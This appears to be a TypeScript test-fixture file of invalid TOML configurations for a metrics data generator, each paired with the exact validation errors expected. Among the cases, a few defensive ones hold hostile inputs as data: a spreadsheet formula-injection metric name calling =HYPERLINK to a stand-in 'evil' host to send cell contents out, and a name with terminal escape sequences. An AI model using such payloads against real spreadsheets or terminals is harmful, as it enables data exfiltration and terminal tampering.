// Bad configs, one row per rule, with the exact messages expected: shared by the library and
// command-line tests.

export const GOOD_GENERAL = "[general]\nseed = 1\nnum_samples = 100\n";
export const GOOD_METRIC = "[metrics.cpu]\nvalue = 30\n";
export const FAULT = (lines: string) =>
  `${GOOD_GENERAL}${GOOD_METRIC}[anomalies.cpu]\nat = 10\nanomaly_factor = 2\npattern = "linear"\nrecovery_time = 5\n${lines}`;

/** [what is wrong, TOML text, the exact messages]. */
export const BAD_CONFIGS: [string, string, string[]][] = [
  ["no [general]", GOOD_METRIC, ["general: missing; this table is required"]],
  ["no [metrics]", GOOD_GENERAL, ["metrics: missing; this table is required"]],
  ["an empty [metrics]", `${GOOD_GENERAL}[metrics]\n`, [
    "metrics: must hold at least one metric, such as [metrics.cpu]",
  ]],
  ["an unknown top-level table", `${GOOD_GENERAL}${GOOD_METRIC}[anomaly.cpu]\nat = 1\n`, [
    `unknown key "anomaly"; did you mean "anomalies"? (general, metrics, anomalies)`,
  ]],
  ["an unknown key in [general]", `[general]\nsed = 1\nnum_samples = 10\n${GOOD_METRIC}`, [
    `general: unknown key "sed"; did you mean "seed"? (seed, num_samples, start, interval, decimals, input)`,
  ]],
  ["no num_samples", `[general]\nseed = 1\n${GOOD_METRIC}`, [
    "general.num_samples: missing; an integer >= 1 is required",
  ]],
  ["num_samples 0", `[general]\nnum_samples = 0\n${GOOD_METRIC}`, [
    "general.num_samples: must be an integer >= 1: got 0",
  ]],
  ["a fractional num_samples", `[general]\nnum_samples = 2.5\n${GOOD_METRIC}`, [
    "general.num_samples: must be an integer >= 1: got 2.5",
  ]],
  ["num_samples as a string", `[general]\nnum_samples = "100"\n${GOOD_METRIC}`, [
    `general.num_samples: must be an integer >= 1: got "100"`,
  ]],
  ["a negative seed", `[general]\nseed = -1\nnum_samples = 10\n${GOOD_METRIC}`, [
    "general.seed: must be an integer >= 0: got -1",
  ]],
  [
    "a seed beyond 2^53",
    `[general]\nseed = 9223372036854775807\nnum_samples = 10\n${GOOD_METRIC}`,
    [
      "general.seed: must be an integer >= 0: got 9223372036854775807",
    ],
  ],
  [
    "a local start time",
    `[general]\nnum_samples = 10\nstart = 2026-01-01T00:00:00\n${GOOD_METRIC}`,
    [
      "general.start: must be an RFC 3339 date-time with an offset, such as 2026-01-01T00:00:00Z: got a date or time without an offset",
    ],
  ],
  ["a start that is no date", `[general]\nnum_samples = 10\nstart = "yesterday"\n${GOOD_METRIC}`, [
    `general.start: must be an RFC 3339 date-time with an offset, such as 2026-01-01T00:00:00Z: got "yesterday"`,
  ]],
  [
    "an interval with a bad unit",
    `[general]\nnum_samples = 10\ninterval = "15 sec"\n${GOOD_METRIC}`,
    [
      `general.interval: must be seconds as a number > 0, or a duration such as "250ms", "15s", "5m", "1h": got "15 sec"`,
    ],
  ],
  ["a zero interval", `[general]\nnum_samples = 10\ninterval = 0\n${GOOD_METRIC}`, [
    `general.interval: must be seconds as a number > 0, or a duration such as "250ms", "15s", "5m", "1h": got 0`,
  ]],
  [
    "an interval below a millisecond",
    `[general]\nnum_samples = 10\ninterval = 0.0005\n${GOOD_METRIC}`,
    [
      "general.interval: must be a whole number of milliseconds: got 0.0005",
    ],
  ],
  ["too many decimals", `[general]\nnum_samples = 10\ndecimals = 16\n${GOOD_METRIC}`, [
    `general.decimals: must be an integer from 0 to 15 or "full": got 16`,
  ]],
  ["decimals as a word", `[general]\nnum_samples = 10\ndecimals = "all"\n${GOOD_METRIC}`, [
    `general.decimals: must be an integer from 0 to 15 or "full": got "all"`,
  ]],
  ["a metric without a value", `${GOOD_GENERAL}[metrics.cpu]\nnoise = "gaussian"\n`, [
    "metrics.cpu.value: missing; a number is required",
  ]],
  ["a value that is not a number", `${GOOD_GENERAL}[metrics.cpu]\nvalue = "30"\n`, [
    `metrics.cpu.value: must be a finite number: got "30"`,
  ]],
  ["an infinite value", `${GOOD_GENERAL}[metrics.cpu]\nvalue = inf\n`, [
    "metrics.cpu.value: must be a finite number: got Infinity",
  ]],
  ["a misspelt noise", `${GOOD_GENERAL}[metrics.cpu]\nvalue = 1\nnoise = "gausian"\n`, [
    `metrics.cpu.noise: "gausian" is not a noise; did you mean "gaussian"? (gaussian, uniform, exponential, logistic, laplace, normal)`,
  ]],
  [
    "a misspelt noise argument",
    `${GOOD_GENERAL}[metrics.m]\nvalue = 1\nnoise = "gaussian"\nnoise_args = { scal = 2 }\n`,
    [
      `metrics.m.noise_args: unknown argument "scal"; did you mean "scale"? (gaussian takes loc, scale, smoothing_window)`,
    ],
  ],
  [
    "an argument of another law",
    `${GOOD_GENERAL}[metrics.m]\nvalue = 1\nnoise = "uniform"\nnoise_args = { scale = 2 }\n`,
    [
      `metrics.m.noise_args: unknown argument "scale" (uniform takes low, high, smoothing_window)`,
    ],
  ],
  [
    "a negative scale",
    `${GOOD_GENERAL}[metrics.m]\nvalue = 1\nnoise = "laplace"\nnoise_args = { scale = -1 }\n`,
    [
      "metrics.m.noise_args.scale: must be >= 0: got -1",
    ],
  ],
  [
    "high below low",
    `${GOOD_GENERAL}[metrics.m]\nvalue = 1\nnoise = "uniform"\nnoise_args = { low = 1, high = 0 }\n`,
    [
      "metrics.m.noise_args.high: must be >= low (1): got 0",
    ],
  ],
  [
    "a smoothing window of 0",
    `${GOOD_GENERAL}[metrics.m]\nvalue = 1\nnoise = "exponential"\nnoise_args = { smoothing_window = 0 }\n`,
    [
      "metrics.m.noise_args.smoothing_window: must be an integer from 1 to 1000000: got 0",
    ],
  ],
  [
    "noise_args without noise",
    `${GOOD_GENERAL}[metrics.m]\nvalue = 1\nnoise_args = { scale = 1 }\n`,
    [
      `metrics.m.noise_args: given without noise; add noise = "gaussian" or another law`,
    ],
  ],
  ["a step_size of 0", `${GOOD_GENERAL}[metrics.m]\nvalue = 1\nstep_size = 0\n`, [
    "metrics.m.step_size: must be > 0: got 0",
  ]],
  ["a metric called timestamp", `${GOOD_GENERAL}[metrics.timestamp]\nvalue = 1\n`, [
    `metrics.timestamp: "timestamp" is the name of the CSV files' first column; rename the metric`,
  ]],
  ["a metric called sample", `${GOOD_GENERAL}[metrics.sample]\nvalue = 1\n`, [
    `metrics.sample: "sample" is the name of the CSV files' first column; rename the metric`,
  ]],
  ["an unknown metric key", `${GOOD_GENERAL}[metrics.m]\nvalue = 1\nstepsize = 1\n`, [
    `metrics.m: unknown key "stepsize"; did you mean "step_size"? (value, formula, recorded, series, type, noise, noise_args, step_size, trend, seasonality, wander, jumps, shape, min, max, depends_on, prometheus)`,
  ]],
  ["recorded = false", `${GOOD_GENERAL}[metrics.m]\nvalue = 1\nrecorded = false\n`, [
    "metrics.m.recorded: must be true, or left out: got false",
  ]],
  ["a recorded metric with a value", `${GOOD_GENERAL}[metrics.m]\nrecorded = true\nvalue = 1\n`, [
    "metrics.m.value: a recorded metric's baseline is its recorded value: value is for synthetic metrics",
  ]],
  ["series without a recorded input", `${GOOD_GENERAL}[metrics.m]\nvalue = 1\nseries = "x"\n`, [
    "metrics.m.series: names a series of a recorded input: set general.input (or --input)",
  ]],
  ["an empty input", `[general]\nnum_samples = 3\ninput = ""\n${GOOD_METRIC}`, [
    `general.input: must name a file of recorded series: got ""`,
  ]],
  [
    "a Prometheus name with a dot",
    `${GOOD_GENERAL}[metrics.m]\nvalue = 1\nprometheus = { name = "m.x" }\n`,
    [
      `metrics.m.prometheus.name: must be a Prometheus metric name, [a-zA-Z_:][a-zA-Z0-9_:]*: got "m.x"`,
    ],
  ],
  [
    "a Prometheus name chaos-datagen writes",
    `${GOOD_GENERAL}[metrics.m]\nvalue = 1\nprometheus = { name = "chaos_fault_active" }\n`,
    [`metrics.m.prometheus.name: "chaos_fault_active" is a series chaos-datagen writes itself`],
  ],
  [
    "a label name with a dash",
    `${GOOD_GENERAL}[metrics.m]\nvalue = 1\nprometheus = { labels = { "a-b" = "x" } }\n`,
    [`metrics.m.prometheus.labels.a-b: a label name must match [a-zA-Z_][a-zA-Z0-9_]*: got "a-b"`],
  ],
  [
    "a label name beginning with __",
    `${GOOD_GENERAL}[metrics.m]\nvalue = 1\nprometheus = { labels = { __name__ = "x" } }\n`,
    [`metrics.m.prometheus.labels.__name__: label names beginning with "__" are Prometheus's own: got "__name__"`],
  ],
  [
    "a label value that is not a string",
    `${GOOD_GENERAL}[metrics.m]\nvalue = 1\nprometheus = { labels = { job = 1 } }\n`,
    [`metrics.m.prometheus.labels.job: must be a string: got 1`],
  ],
  [
    "a help with a control character",
    `${GOOD_GENERAL}[metrics.m]\nvalue = 1\nprometheus = { help = "a\\u0007b" }\n`,
    [`metrics.m.prometheus.help: must not hold control characters`],
  ],
  [
    "an unknown key in prometheus",
    `${GOOD_GENERAL}[metrics.m]\nvalue = 1\nprometheus = { nam = "m" }\n`,
    [`metrics.m.prometheus: unknown key "nam"; did you mean "name"? (name, labels, help)`],
  ],
  [
    "an anomaly for a metric that does not exist",
    `${GOOD_GENERAL}${GOOD_METRIC}[anomalies.cpuu]\nat = 1\nanomaly_factor = 2\npattern = "step"\nrecovery_time = 1\n`,
    [
      `anomalies.cpuu: no metric "cpuu"; did you mean "cpu"? (cpu)`,
    ],
  ],
  ["a misspelt pattern", FAULT("").replace(`"linear"`, `"lineer"`), [
    `anomalies.cpu.pattern: "lineer" is not a pattern; did you mean "linear"? (linear, exponential, oscillating, step)`,
  ]],
  ["an anomaly past the end", FAULT("").replace("at = 10", "at = 100"), [
    "anomalies.cpu.at: must be less than num_samples (100): got 100",
  ]],
  ["a negative at", FAULT("").replace("at = 10", "at = -1"), [
    "anomalies.cpu.at: must be an integer >= 0: got -1",
  ]],
  ["a recovery past the end", FAULT("").replace("recovery_time = 5", "recovery_time = 95"), [
    "anomalies.cpu.recovery_time: at + recovery_time must be at most num_samples (100): got 10 + 95 = 105",
  ]],
  ["a recovery_time of 0", FAULT("").replace("recovery_time = 5", "recovery_time = 0"), [
    "anomalies.cpu.recovery_time: must be an integer >= 1: got 0",
  ]],
  ["a fractional recovery_time", FAULT("").replace("recovery_time = 5", "recovery_time = 2.5"), [
    "anomalies.cpu.recovery_time: must be an integer >= 1: got 2.5",
  ]],
  ["a NaN factor", FAULT("").replace("anomaly_factor = 2", "anomaly_factor = nan"), [
    "anomalies.cpu.anomaly_factor: must be a finite number: got NaN",
  ]],
  ["pattern_args on linear", FAULT("pattern_args = { frequency = 1 }\n"), [
    `anomalies.cpu.pattern_args: unknown argument "frequency"; linear takes none`,
  ]],
  [
    "a frequency of 0",
    FAULT("pattern_args = { frequency = 0 }\n").replace(`"linear"`, `"oscillating"`),
    [
      "anomalies.cpu.pattern_args.frequency: must be > 0 (radians per sample): got 0",
    ],
  ],
  ["an unknown anomaly key", FAULT("factor = 3\n"), [
    `anomalies.cpu: unknown key "factor" (kind, at, onset, hold, recovery_time, pattern, pattern_args, anomaly_factor, offset, noise_factor, count, between, min_gap)`,
  ]],
  [
    "a fault in an array of tables, missing its keys",
    `${GOOD_GENERAL}${GOOD_METRIC}[[anomalies.cpu]]\nat = 1\n`,
    [
      "anomalies.cpu[0].anomaly_factor: missing; a fault needs anomaly_factor, offset or noise_factor",
      "anomalies.cpu[0].pattern: missing; one of linear, exponential, oscillating, step is required",
      "anomalies.cpu[0].recovery_time: missing; an integer >= 1 is required",
    ],
  ],
  [
    "a metric name that a spreadsheet reads as a formula",
    `${GOOD_GENERAL}[metrics."=HYPERLINK(\\"http://evil/?\\"&A1,\\"x\\")"]\nvalue = 1\n`,
    [
      `metrics."=HYPERLINK(\\"http://evil/?\\"&A1,\\"x\\")": a metric name must not begin with "=", "+", "-" or "@": spreadsheets read such a column header as a formula`,
    ],
  ],
  [
    "metric names beginning with + - @",
    `${GOOD_GENERAL}[metrics."+a"]\nvalue = 1\n[metrics."-b"]\nvalue = 1\n[metrics."@c"]\nvalue = 1\n`,
    [
      `metrics."+a": a metric name must not begin with "=", "+", "-" or "@": spreadsheets read such a column header as a formula`,
      `metrics.-b: a metric name must not begin with "=", "+", "-" or "@": spreadsheets read such a column header as a formula`,
      `metrics."@c": a metric name must not begin with "=", "+", "-" or "@": spreadsheets read such a column header as a formula`,
    ],
  ],
  [
    "a metric name holding terminal escapes",
    `${GOOD_GENERAL}[metrics."a\\u001b]0;pwned\\u0007\\u001b[2J"]\nvalue = 1\n`,
    [
      `metrics."a\\u001b]0;pwned\\u0007\\u001b[2J": a metric name must not hold control characters (they would reach terminals)`,
    ],
  ],
  [
    "an unknown key holding escapes, echoed escaped",
    `${GOOD_GENERAL}[metrics.cpu]\nvalue = 1\n"x\\u001b[31m" = 2\n`,
    [
      `metrics.cpu: unknown key "x\\u001b[31m" (value, formula, recorded, series, type, noise, noise_args, step_size, trend, seasonality, wander, jumps, shape, min, max, depends_on, prometheus)`,
    ],
  ],
  [
    "a long bad value, echoed cut",
    `${GOOD_GENERAL}[metrics.cpu]\nvalue = 1\nnoise = "${"z".repeat(100_000)}"\n`,
    [
      `metrics.cpu.noise: "${
        "z".repeat(60)
      }... (100000 characters)" is not a noise (gaussian, uniform, exponential, logistic, laplace, normal)`,
    ],
  ],
  [
    "a value times its factors beyond 1e300",
    `${GOOD_GENERAL}[metrics.cpu]\nvalue = 1e10\n[anomalies.cpu]\nat = 1\nanomaly_factor = 1e308\npattern = "step"\nrecovery_time = 2\n`,
    [
      "metrics.cpu: values must stay within +-1e+300 to be computed exactly: its baseline x its multiplier (its faults, and what its parents pass on) plus offsets can reach more than the largest double (1.8e308)",
    ],
  ],
  [
    "a noise scale that overflows",
    `${GOOD_GENERAL}[metrics.cpu]\nvalue = 1\nnoise = "gaussian"\nnoise_args = { scale = 1.7976931348623157e308 }\n`,
    [
      "metrics.cpu: values must stay within +-1e+300 to be computed exactly: its noise (gaussian) can reach more than the largest double (1.8e308)",
    ],
  ],
  [
    "a uniform width that overflows",
    `${GOOD_GENERAL}[metrics.cpu]\nvalue = 1\nnoise = "uniform"\nnoise_args = { low = -1e300, high = 1e300 }\n`,
    [
      "metrics.cpu: values must stay within +-1e+300 to be computed exactly: its noise (uniform) can reach 2.00e+300",
    ],
  ],
  [
    "a step_size too small for the values",
    `${GOOD_GENERAL}[metrics.cpu]\nvalue = 1e10\nstep_size = 1e-300\n`,
    [
      "metrics.cpu.step_size: too small for values up to 1.00e+10: value / step_size must stay within 1e+300: got 1e-300",
    ],
  ],
  ["an onset below 0", FAULT("onset = -1\n"), [
    "anomalies.cpu.onset: must be an integer >= 0: got -1",
  ]],
  ["a window that the onset and hold push past the end", FAULT("onset = 40\nhold = 50\n"), [
    "anomalies.cpu.recovery_time: at + onset + hold + recovery_time must be at most num_samples (100): got 10 + 40 + 50 + 5 = 105",
  ]],
  [
    "a duration that is not a whole number of samples",
    FAULT("").replace("[general]\n", '[general]\ninterval = "1m"\n').replace(
      "recovery_time = 5",
      'recovery_time = "90s"',
    ),
    [
      `anomalies.cpu.recovery_time: must be a whole number of samples: "90s" is 90000 ms, not a multiple of the interval (60000 ms)`,
    ],
  ],
  ["a hold that is not a duration", FAULT('hold = "ten minutes"\n'), [
    `anomalies.cpu.hold: must be an integer >= 0 (samples) or a duration such as "250ms", "15s", "5m", "1h", "1d", "1w", "1d12h": got "ten minutes"`,
  ]],
  ["at as a date-time without start", FAULT("").replace("at = 10", "at = 2026-01-01T00:00:00Z"), [
    "anomalies.cpu.at: a date-time needs general.start; give at as samples or a duration instead",
  ]],
  [
    "at as a date-time between samples",
    FAULT("").replace("[general]\n", '[general]\nstart = 2026-01-01T00:00:00Z\ninterval = "1m"\n')
      .replace("at = 10", "at = 2026-01-01T00:10:30Z"),
    [
      "anomalies.cpu.at: must fall on a sample: 2026-01-01T00:10:30.000Z is 630000 ms after start, not a multiple of the interval (60000 ms)",
    ],
  ],
  ["a fault with no effect", FAULT("").replace("anomaly_factor = 2\n", ""), [
    "anomalies.cpu.anomaly_factor: missing; a fault needs anomaly_factor, offset or noise_factor",
  ]],
  ["a negative noise_factor", FAULT("noise_factor = -2\n"), [
    "anomalies.cpu.noise_factor: must be >= 0 (the noise's amplitude multiplier): got -2",
  ]],
  ["a trend without over", `${GOOD_GENERAL}[metrics.cpu]\nvalue = 1\ntrend = { change = 3 }\n`, [
    `metrics.cpu.trend.over: missing; a time > 0: samples, or a duration such as "250ms", "15s", "5m", "1h", "1d", "1w", "1d12h" is required`,
  ]],
  [
    "a season of period 0",
    `${GOOD_GENERAL}[metrics.cpu]\nvalue = 1\n[[metrics.cpu.seasonality]]\nperiod = "0s"\namplitude = 2\n`,
    [
      `metrics.cpu.seasonality[0].period: must be a time > 0: samples, or a duration such as "250ms", "15s", "5m", "1h", "1d", "1w", "1d12h": got "0s"`,
    ],
  ],
  [
    "a season without amplitude, with an unknown key",
    `${GOOD_GENERAL}[metrics.cpu]\nvalue = 1\n[[metrics.cpu.seasonality]]\nperiod = "1d"\namplitud = 2\n`,
    [
      `metrics.cpu.seasonality[0]: unknown key "amplitud"; did you mean "amplitude"? (period, amplitude, peak, waveform, duty)`,
      "metrics.cpu.seasonality[0].amplitude: missing; a number is required",
    ],
  ],
  [
    "a wander window of 1",
    `${GOOD_GENERAL}[metrics.cpu]\nvalue = 1\nwander = { scale = 2, window = 1 }\n`,
    [
      "metrics.cpu.wander.window: must be an integer >= 2: got 1",
    ],
  ],
  [
    "a negative wander scale",
    `${GOOD_GENERAL}[metrics.cpu]\nvalue = 1\nwander = { scale = -2, window = 10 }\n`,
    [
      "metrics.cpu.wander.scale: must be >= 0: got -2",
    ],
  ],
  ["min above max", `${GOOD_GENERAL}[metrics.cpu]\nvalue = 1\nmin = 10\nmax = 5\n`, [
    "metrics.cpu.max: must be >= min (10): got 5",
  ]],
  ["an unknown kind", FAULT('kind = "flatlined"\n'), [
    `anomalies.cpu.kind: "flatlined" is not a kind; did you mean "flatline"? (pattern, flatline, missing, reset, extremum, amplitude, frequency, phase, shape, decouple)`,
  ]],
  [
    "a flatline with a pattern's keys",
    `${GOOD_GENERAL}${GOOD_METRIC}[anomalies.cpu]\nkind = "flatline"\nat = 1\nrecovery_time = 5\nanomaly_factor = 2\n`,
    [
      `anomalies.cpu: unknown key "anomaly_factor" (a flatline fault takes kind, at, recovery_time, value, count, between, min_gap)`,
    ],
  ],
  [
    "a missing window past the end",
    `${GOOD_GENERAL}${GOOD_METRIC}[anomalies.cpu]\nkind = "missing"\nat = 90\nrecovery_time = 20\n`,
    [
      "anomalies.cpu.recovery_time: at + recovery_time must be at most num_samples (100): got 90 + 20 = 110",
    ],
  ],
  ["an unknown metric type", `${GOOD_GENERAL}[metrics.cpu]\nvalue = 1\ntype = "countr"\n`, [
    `metrics.cpu.type: "countr" is not a metric type; did you mean "counter"? (gauge, counter)`,
  ]],
  [
    "a counter with a step_size",
    `${GOOD_GENERAL}[metrics.cpu]\nvalue = 1\ntype = "counter"\nstep_size = 1\n`,
    [
      "metrics.cpu.step_size: a counter counts whole events; step_size is for gauges",
    ],
  ],
  ["a reset on a gauge", `${GOOD_GENERAL}${GOOD_METRIC}[anomalies.cpu]\nkind = "reset"\nat = 5\n`, [
    `anomalies.cpu.kind: "reset" restarts a counter; this metric is a gauge (type = "counter")`,
  ]],
  [
    "a reset with a recovery_time",
    `${GOOD_GENERAL}[metrics.cpu]\nvalue = 1\ntype = "counter"\n[anomalies.cpu]\nkind = "reset"\nat = 5\nrecovery_time = 3\n`,
    [
      `anomalies.cpu: unknown key "recovery_time" (a reset takes kind, at, count, between, min_gap)`,
    ],
  ],
  [
    "a counter that could count past 2^53",
    `${GOOD_GENERAL}[metrics.cpu]\nvalue = 1e14\ntype = "counter"\n`,
    [
      "metrics.cpu: a counter's count must stay below 2^53 to be exact: its rate (up to 1.00e+14/s) over 100 samples could count 1.00e+16 events",
    ],
  ],
  [
    "a dependency on a metric that does not exist",
    `${GOOD_GENERAL}[metrics.api]\nvalue = 1\ndepends_on = { dbb = { lag = 1 } }\n[metrics.db]\nvalue = 1\n`,
    [
      `metrics.api.depends_on.dbb: no metric "dbb"; did you mean "db"? (api, db)`,
    ],
  ],
  [
    "a metric depending on itself",
    `${GOOD_GENERAL}[metrics.api]\nvalue = 1\ndepends_on = { api = {} }\n`,
    [
      "metrics.api.depends_on.api: a metric cannot depend on itself",
    ],
  ],
  [
    "a cycle of dependencies",
    `${GOOD_GENERAL}[metrics.a]\nvalue = 1\ndepends_on = { b = {} }\n[metrics.b]\nvalue = 1\ndepends_on = { c = {} }\n[metrics.c]\nvalue = 1\ndepends_on = { a = {} }\n`,
    [
      "metrics.a.depends_on: a cycle of dependencies: a -> b -> c -> a",
    ],
  ],
  [
    "a bad weight and lag",
    `${GOOD_GENERAL}[metrics.a]\nvalue = 1\ndepends_on = { b = { weight = nan, lag = -1 } }\n[metrics.b]\nvalue = 1\n`,
    [
      "metrics.a.depends_on.b.weight: must be a finite number: got NaN",
      "metrics.a.depends_on.b.lag: must be an integer >= 0: got -1",
    ],
  ],
  [
    "a dependency weight that overflows (found by the fuzzer)",
    `${GOOD_GENERAL}[metrics.a]\nvalue = 1\ndepends_on = { b = { weight = 1e308 } }\n[metrics.b]\nvalue = 1\n[anomalies.b]\nat = 1\nrecovery_time = 2\npattern = "step"\nanomaly_factor = 2\n`,
    [
      "metrics.a: values must stay within +-1e+300 to be computed exactly: its baseline x its multiplier (its faults, and what its parents pass on) plus offsets can reach more than the largest double (1.8e308)",
    ],
  ],
];
